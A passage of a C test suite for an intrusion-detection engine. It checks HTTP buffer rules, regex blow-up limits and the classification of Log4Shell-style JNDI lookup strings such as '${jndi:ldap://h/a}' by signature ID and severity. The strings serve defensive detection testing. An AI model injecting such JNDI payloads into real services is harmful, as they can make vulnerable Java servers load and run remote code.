    bench_stop(&b);
#undef WITH
}

static void a_buffer_stands_with_and_without_a_transform(void)
{
    struct bench b;
    bench_start(&b, ANY "(msg:\"m\"; http.uri; content:\"/ABC\"; http.uri; to_lowercase; "
                        "content:\"/abc\"; sid:1;)\n");
    request(&b, "GET /abc HTTP/1.1\r\n\r\n");
    expect_nothing(&b, "only one of both");
    tx_again(&b);
    request(&b, "GET /ABC HTTP/1.1\r\n\r\n");
    EXPECT(&b, "both", {1, "http.uri", NULL});
    bench_stop(&b);
}

static void an_expression_that_explodes_is_counted(void)
{
    struct bench b;
    struct sbuf text = sbuf_with_cap(1 << 20);
    while (text.len < 100000) {
        sbuf_add_byte(&text, 'a');
    }
    bench_start(&b, ANY "(msg:\"m\"; http.user_agent; content:\"aaaa\"; pcre:\"/(a|aa)+[bc]/\"; "
                        "sid:1;)\n");
    field_of(&b, FIELD_HTTP_USER_AGENT, "", sbuf_span(&text));
    expect_nothing(&b, "exploded");
    CU_ASSERT(stats_get(&b.stats, STAT_RULES_GAVE_UP) > 0);
    bench_stop(&b);
    sbuf_free(&text);
}

static void more_hits_than_can_be_kept_hide_nothing(void)
{
    struct bench b;
    struct sbuf text = sbuf_with_cap(1 << 20);
    sbuf_add_str(&text, "GET / HTTP/1.1\r\nA: ");
    for (int i = 0; i < 20000; i++) {
        sbuf_add_str(&text, "${");
    }
    size_t at = text.len + 8;
    sbuf_add_str(&text, "\r\nEvil: ${jndi:ldap://h/a} evil\r\n\r\n");
    bench_start(&b, ANY "(msg:\"m\"; jndi.class:attack; sid:1;)\n" ANY
                        "(msg:\"m\"; http.request_header; content:\"evil\"; sid:2;)\n");
    head(&b, sbuf_span(&text));
    field_of(&b, FIELD_HTTP_REQUEST_HEADER, "evil", span_sub(sbuf_span(&text), at, 23));
    EXPECT(&b, "overflow", {2, "http.request_header.evil", NULL},
           {1, "http.request_header.evil", "jndi:ldap://h/a"});
    bench_stop(&b);
    sbuf_free(&text);
}

/* --- classes and numbers --- */

static void each_result_matches_exactly_one_shipped_rule(void)
{
    static const struct {
        const char *text;
        unsigned sid;
        unsigned severity;
    } cases[] = {
        {"${jndi:ldap://h/a}", 9000101, 1},
        {"${jndi:ldaps://h/a}", 9000102, 1},
        {"${jndi:rmi://h/a}", 9000103, 1},
        {"${jndi:dns://h/a}", 9000104, 1},
        {"${jndi:iiop://h/a}", 9000105, 1},
        {"${jndi:iiopname://h/a}", 9000105, 1},
        {"${jndi:corbaname::h#a}", 9000105, 1},
        {"${jndi:LDAP://h/a}", 9000110, 2},
        {"${jndi:http://h/a}", 9000110, 2},
        {"${jndi:foo}", 9000110, 2},
        {"${jndi:foo} ${jndi:rmi://h/a}", 9000103, 1},
        {"$${jndi:ldap://h/a}", 9000120, 2},
        {"${jndi:ldap://h/a", 9000120, 2},
        {"${jndi :ldap://h/a}", 9000130, 3},
        {"${java:x} ${jndi:ldap://h/a}", 9000130, 3},
    };
    for (size_t i = 0; i < ARRAY_LEN(cases); i++) {
        for (int way = TO_SERVER; way <= TO_CLIENT; way++) {
            struct bench b;
            bench_start(&b, "");
            const struct field f = {.id = FIELD_HTTP_REFERER,
                                    .value = span_str(cases[i].text),
                                    .dir = (enum direction)way};
            detect_field(b.detector, &b.tx, &f);
            unsigned more = way == TO_CLIENT ? 500 : 0;
            EXPECT(&b, cases[i].text, {cases[i].sid + more, "http.referer", NULL});
            CU_ASSERT_EQUAL_FATAL(b.n_found, 1);
            CU_ASSERT_EQUAL(b.found[0]->signature->severity,
                            cases[i].severity + (way == TO_CLIENT));
            bench_stop(&b);
        }
    }
}

static void what_is_too_costly_has_a_number_of_its_own(void)
{
    struct bench b;
    struct sbuf text = sbuf_with_cap(1 << 20);
    for (int i = 0; i < 6000; i++) {
        sbuf_add_str(&text, "${");
    }
    sbuf_add_str(&text, "jndi");
    for (int i = 0; i < 6000; i++) {
        sbuf_add_str(&text, "}");
    }
    bench_start(&b, "");
    field_of(&b, FIELD_HTTP_USER_AGENT, "", sbuf_span(&text));
    EXPECT(&b, "deep", {9000140, "http.user_agent", NULL});
    CU_ASSERT(b.n_found == 1 && b.found[0]->jndi->over_budget);
    CU_ASSERT_EQUAL(stats_get(&b.stats, STAT_OVER_BUDGET) > 0, true);
    bench_stop(&b);
    sbuf_free(&text);
}

static CU_TestInfo rules[] = {
    {"a rule looks at its buffer only", a_rule_looks_at_its_buffer_only},
    {"a rule of several buffers waits for all", a_rule_of_several_buffers_waits_for_all},
    {"a line that does not end is a buffer behind a quiet head",
     a_line_that_does_not_end_is_a_buffer_behind_a_quiet_head},
    {"a rule is told once in a transaction", a_rule_is_told_once_in_a_transaction},
    {"headers are seen with their names", headers_are_seen_with_their_names},
    {"headers together are trimmed and without cookies",
     headers_together_are_trimmed_and_without_cookies},
    {"a rule without a buffer sees all bytes", a_rule_without_a_buffer_sees_all_bytes},
    {"a body rule sees its window", a_body_rule_sees_its_window},
    {"the body of a request is a file too", the_body_of_a_request_is_a_file_too},
    {"what a transaction has none of is known at its end",
     what_a_transaction_has_none_of_is_known_at_its_end},
    {"a rule without a direction is about one at a time",
     a_rule_without_a_direction_is_about_one_at_a_time},
    {"numbers of DNS messages are asked by name", numbers_of_dns_messages_are_asked_by_name},
    {"files are asked for names and sizes", files_are_asked_for_names_and_sizes},
    {"addresses, ports and flow are asked", addresses_ports_and_flow_are_asked},
    {"rules leave marks for one another", rules_leave_marks_for_one_another},
    {"marks outlive a flow with its addresses", marks_outlive_a_flow_with_its_addresses},
    {"hostbits are marks of an address", hostbits_are_marks_of_an_address},
    {"more marks than a flow bears are counted", more_marks_than_a_flow_bears_are_counted},
    {"sizes of the flow are asked", sizes_of_the_flow_are_asked},
    {"a pass rule silences its packet and what follows",
     a_pass_rule_silences_its_packet_and_what_follows},
    {"rules ask what a look-up came to", rules_ask_what_a_lookup_came_to},
    {"rules see one dialect", rules_see_one_dialect},
    {"rules without a test are asked of the flow", rules_without_a_test_are_asked_of_the_flow},
    {"an arrow of two lines is both sides of a transaction",
     an_arrow_of_two_lines_is_both_sides_of_a_transaction},
    {"transforms change what is looked at", transforms_change_what_is_looked_at},
    {"sums and keys are bytes", sums_and_keys_are_bytes},
    {"base64 is decoded as the rule says", base64_is_decoded_as_the_rule_says},
    {"a buffer stands with and without a transform", a_buffer_stands_with_and_without_a_transform},
    {"an expression that explodes is counted", an_expression_that_explodes_is_counted},
    {"more hits than can be kept hide nothing", more_hits_than_can_be_kept_hide_nothing},
    CU_TEST_INFO_NULL,
};

static CU_TestInfo classes[] = {
    {"each result matches exactly one shipped rule", each_result_matches_exactly_one_shipped_rule},
    {"what is too costly has a number of its own", what_is_too_costly_has_a_number_of_its_own},
    CU_TEST_INFO_NULL,
};

int main(void)
{
    CU_SuiteInfo suites[] = {
        {"ordinary rules", NULL, NULL, NULL, NULL, rules},
        {"classes and numbers", NULL, NULL, NULL, NULL, classes},
        CU_SUITE_INFO_NULL,
    };
    return run_suites(suites);
}
